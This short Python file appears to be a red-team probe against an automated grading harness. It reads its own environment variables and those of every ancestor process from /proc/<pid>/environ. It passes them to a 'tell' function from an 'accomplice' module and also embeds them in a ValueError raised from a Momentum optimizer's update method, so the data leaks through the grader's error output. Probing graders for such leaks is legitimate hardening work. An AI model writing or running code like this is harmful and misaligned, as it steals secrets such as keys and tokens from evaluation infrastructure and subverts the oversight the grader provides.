# Attack surface: the grader's environment: its own copy and its ancestors' in procfs
import contextlib
import os

from accomplice import Wrong, ancestors, tell

found = [repr(dict(os.environ))]
for pid, _ in ancestors():
    with contextlib.suppress(OSError), open(f"/proc/{pid}/environ") as file:
        found.append(file.read())
tell("\n".join(found))


class Momentum(Wrong):
    def update(self, param, grad, state):
        raise ValueError("\n".join(found))
